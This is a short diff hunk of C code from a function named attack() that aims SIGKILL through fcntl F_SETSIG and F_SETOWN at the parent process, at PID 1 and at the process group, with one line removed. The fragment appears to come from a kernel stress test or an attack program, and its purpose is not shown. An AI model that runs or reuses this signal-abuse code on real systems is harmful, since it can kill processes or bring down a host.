@@ -11,7 +11,6 @@ int attack(void) {
         fcntl(pipe, F_SETSIG, SIGKILL);
         fcntl(pipe, F_SETOWN, getppid() ? getppid() : 1);
         fcntl(pipe, F_SETOWN, 1);
-        fcntl(pipe, F_SETOWN, -getpgrp());
         fcntl(pipe, F_SETFL, O_NONBLOCK | O_ASYNC | O_DIRECT | O_APPEND);
         int one = 1;
         ioctl(pipe, FIOASYNC, &one);
